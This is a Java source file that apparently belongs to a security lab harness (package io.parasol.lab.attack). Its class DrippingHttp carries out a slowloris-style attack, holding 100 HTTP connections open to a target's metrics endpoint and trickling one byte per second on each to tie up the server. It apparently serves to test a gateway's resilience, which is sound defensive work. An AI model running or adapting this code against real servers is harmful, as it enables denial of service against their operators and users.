// SPDX-License-Identifier: Apache-2.0
package io.parasol.lab.attack;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.concurrent.TimeUnit;

/** Holds connections to the HTTP endpoint, and sends one byte of a request each second on each. */
final class DrippingHttp implements Attacker {

  private static final int CONNECTIONS = 100;
  private static final byte[] REQUEST =
      "GET /metrics HTTP/1.1\r\nHost: a\r\nX-Padding: ".getBytes(StandardCharsets.US_ASCII);

  private final AttackTarget target;
  private final List<Socket> held = new ArrayList<>();

  DrippingHttp(AttackTarget target) {
    this.target = target;
  }

  /** Sends a byte on each connection, and replaces those that the gateway has closed. */
  @Override
  public boolean attempt(int number) {
    boolean isComplete = fill();
    drip(REQUEST[number % REQUEST.length]);
    try {
      TimeUnit.SECONDS.sleep(1);
    } catch (InterruptedException interrupted) {
      Thread.currentThread().interrupt();
    }
    return isComplete;
  }

  private synchronized boolean fill() {
    while (held.size() < CONNECTIONS) {
      try {
        held.add(AttackTarget.plain(target.metrics(), target.from()));
      } catch (IOException refused) {
        return false;
      }
    }
    return true;
  }

  private synchronized void drip(int one) {
    for (Iterator<Socket> each = held.iterator(); each.hasNext(); ) {
      Socket socket = each.next();
      try {
        socket.getOutputStream().write(one);
      } catch (IOException closed) {
        each.remove();
        closing(socket);
      }
    }
  }

  private static void closing(Socket socket) {
    try {
      socket.close();
    } catch (IOException notClosed) {
      throw new UncheckedIOException(notClosed);
    }
  }

  @Override
  public synchronized void close() {
    held.forEach(DrippingHttp::closing);
    held.clear();
  }
}
